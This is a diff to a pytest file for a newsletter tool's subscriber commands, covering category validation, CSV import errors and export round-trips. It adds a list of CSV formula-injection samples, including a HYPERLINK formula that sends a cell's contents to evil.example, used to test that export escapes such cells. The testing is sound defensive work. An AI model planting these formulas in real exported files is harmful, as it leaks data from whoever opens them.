@@ -4,10 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from publisher.subscribers import SubscriberError, normalize_email
+from publisher.subscribers import FORMULA_START, SubscriberError, escape_cell, normalize_email, unescape_cell
 
 
 @pytest.mark.parametrize(("raw", "expected"), [
@@ -25,12 +28,20 @@ def test_invalid_addresses(raw):
         normalize_email(raw)
 
 
-def test_add_update_remove_and_list(site):
+@pytest.fixture
+def published(site):
+    """The example site after one pass: its posts' categories are the known ones."""
+    assert site.run("--now", "2026-03-12T20:00:00+09:00").exit_code == 0
+    return site
+
+
+def test_add_update_remove_and_list(published):
+    site = published
     assert "added" in site.run("subscribers", "add", "a@example.com", "--name", "A").output
     assert "unchanged" in site.run("subscribers", "add", "a@example.com", "--name", "A").output
     assert "updated" in site.run("subscribers", "add", "a@example.com", "--category", "半導体").output
     listed = site.run("subscribers", "list").output
-    assert "a@example.com\tactive\t半導体" in listed
+    assert "a@example.com\tactive\t半導体\tA" in listed, "the name given before stays"
     assert "unsubscribed" in site.run("subscribers", "remove", "a@example.com").output
     again = site.run("subscribers", "add", "a@example.com")
     assert again.exit_code == 1 and "--resubscribe" in again.output
@@ -43,25 +54,78 @@ def test_add_update_remove_and_list(site):
     assert "a@example.com" not in site.run("subscribers", "list").output
 
 
-def test_import_reports_bad_rows_by_line_and_is_idempotent(site):
+def test_an_edit_changes_only_what_is_given(published):
+    site = published
+    site.run("subscribers", "add", "a@example.com", "--name", "山田", "--category", "半導体", "--category", "政策")
+    renamed = site.run("subscribers", "add", "a@example.com", "--name", "山田 太郎")
+    assert renamed.exit_code == 0 and "updated" in renamed.output
+    assert "a@example.com\tactive\t半導体, 政策\t山田 太郎" in site.run("subscribers", "list").output
+    site.run("subscribers", "add", "a@example.com", "--category", "Research")
+    assert "a@example.com\tactive\tResearch\t山田 太郎" in site.run("subscribers", "list").output
+    site.run("subscribers", "add", "a@example.com", "--all-categories")
+    assert "a@example.com\tactive\t(all)\t山田 太郎" in site.run("subscribers", "list").output
+    both = site.run("subscribers", "add", "a@example.com", "--all-categories", "--category", "政策")
+    assert both.exit_code == 2 and "not both" in both.output
+
+
+def test_unknown_category_is_an_error_naming_the_known_ones(published):
+    site = published
+    typo = site.run("subscribers", "add", "a@example.com", "--category", "半導休")
+    assert typo.exit_code == 2
+    assert "unknown category '半導休' (did you mean '半導体'?); known categories: Research, 半導体, 導入事例, " \
+           "市場動向, 投資分析, 政策" in typo.output
+    assert "--allow-new-category" in typo.output
+    assert "a@example.com" not in site.run("subscribers", "list").output, "nothing was added"
+    new = site.run("subscribers", "add", "a@example.com", "--category", "ロボット", "--allow-new-category")
+    assert new.exit_code == 0 and "a@example.com\tactive\tロボット" in site.run("subscribers", "list").output
+
+
+def test_categories_before_any_post_need_the_flag(site):
+    result = site.run("subscribers", "add", "a@example.com", "--category", "半導体")
+    assert result.exit_code == 2 and "known categories: none yet" in result.output
+    assert site.run("subscribers", "add", "a@example.com").exit_code == 0, "following everything needs no category"
+
+
+def test_import_reports_bad_rows_by_line_and_is_idempotent(published):
+    site = published
     path = site.root / "subs.csv"
     path.write_text("email,name,categories\n"
                     "one@example.com,一郎,半導体; 政策\n"
                     "broken-address,Bad,\n"
                     "two@example.com,,\n"
                     ",Empty,\n"
-                    "ONE@example.com,一郎,半導体; 政策\n", encoding="utf-8")
+                    "ONE@example.com,一郎,半導体; 市場\n"
+                    "three@example.com,三郎,半導体; 政策x\n", encoding="utf-8")
     first = site.run("subscribers", "import", str(path))
     assert first.exit_code == 1
     assert f"{path}:3: 'broken-address' is not a valid address" in first.output
     assert f"{path}:5: the address is empty" in first.output
-    assert "2 added" in first.output and "2 bad row(s)" in first.output
+    assert f"{path}:6: one@example.com is already on line 2; this row is skipped" in first.output
+    assert f"{path}:7: unknown category '政策x' (did you mean '政策'?)" in first.output
+    assert "2 added" in first.output and "4 bad row(s)" in first.output
     second = site.run("subscribers", "import", str(path))
-    assert "3 unchanged" in second.output and "added" not in second.output
+    assert f"{site.root / 'subs.csv'}: 2 unchanged; 4 bad row(s)" in second.output, second.output
+    assert second.output.count("is already on line 2") == 1, "the duplicate is reported once, by line"
+    assert "updated" not in second.output
+    assert "one@example.com\tactive\t半導体, 政策\t一郎" in site.run("subscribers", "list").output, "line 2 wins"
     site.run("subscribers", "remove", "two@example.com")
     third = site.run("subscribers", "import", str(path))
     assert "1 unsubscribed" in third.output, "an import never re-subscribes"
     assert "two@example.com\tunsubscribed" in site.run("subscribers", "list").output
+    allowed = site.run("subscribers", "import", str(path), "--allow-new-category")
+    assert "1 added" in allowed.output and "3 bad row(s)" in allowed.output
+
+
+def test_import_leaves_absent_columns_alone(published):
+    site = published
+    site.run("subscribers", "add", "a@example.com", "--name", "A", "--category", "半導体")
+    names = site.root / "names.csv"
+    names.write_text("email,name\na@example.com,Aさん\n", encoding="utf-8")
+    assert "1 updated" in site.run("subscribers", "import", str(names)).output
+    only = site.root / "only.csv"
+    only.write_text("email\na@example.com\n", encoding="utf-8")
+    assert "1 unchanged" in site.run("subscribers", "import", str(only)).output
+    assert "a@example.com\tactive\t半導体\tAさん" in site.run("subscribers", "list").output
 
 
 def test_import_without_email_column(site):
@@ -71,13 +135,45 @@ def test_import_without_email_column(site):
     assert result.exit_code == 2 and "no 'email' column" in result.output
 
 
-def test_export_round_trips(site, tmp_path):
+def test_export_round_trips(published, tmp_path):
+    site = published
     site.run("subscribers", "add", "a@example.com", "--name", "A, with comma", "--category", "半導体",
              "--category", "政策")
     exported = site.run("subscribers", "export").stdout
     rows = list(csv.DictReader(io.StringIO(exported)))
     assert rows[0]["email"] == "a@example.com" and rows[0]["name"] == "A, with comma"
     assert rows[0]["categories"] == "半導体; 政策" and rows[0]["status"] == "active"
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d\+09:00", rows[0]["joined"]), "the one time format"
     path = tmp_path / "back.csv"
     path.write_text(exported, encoding="utf-8")
     assert "1 unchanged" in site.run("subscribers", "import", str(path)).output
+
+
+NASTY = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+2", "-2", "@SUM(A1:A2)", "\tindent",
+         "\rreturn", "'=already quoted", "'Tis", "''", "＝全角", "normal", "", "=", "a=b", " =spaced"]
+
+
+def test_export_escapes_formulas_and_import_reads_them_back(published, tmp_path):
+    site = published
+    for i, name in enumerate(NASTY):
+        assert site.run("subscribers", "add", f"r{i}@example.com", "--name", name).exit_code == 0
+    site.run("subscribers", "add", "=cmd@example.com", "--name", "-x", "--category", "=new", "--allow-new-category")
+    exported = site.run("subscribers", "export").stdout
+    for row in csv.reader(io.StringIO(exported)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), f"unescaped formula cell {cell!r}"
+    assert "'=HYPERLINK(" in exported and "'=cmd@example.com" in exported and "'-x" in exported
+    path = tmp_path / "back.csv"
+    path.write_text(exported, encoding="utf-8")
+    back = site.run("subscribers", "import", str(path))
+    assert back.exit_code == 0 and f"{len(NASTY) + 1} unchanged" in back.output, back.output
+    listed = {line.split("\t")[0]: line.split("\t", 3)[3] for line in site.run("subscribers", "list").stdout.splitlines()}
+    assert listed["=cmd@example.com"] == "-x"
+    assert [listed[f"r{i}@example.com"] for i in range(len(NASTY))] == [n.strip() for n in NASTY]
+
+
+@given(st.text(alphabet=st.sampled_from("=+-@\t\r'＝＋－＠ ax;,\"\n"), max_size=8))
+def test_cell_escaping_round_trips(text):
+    escaped = escape_cell(text)
+    assert unescape_cell(escaped) == text
+    assert not escaped.startswith(FORMULA_START)
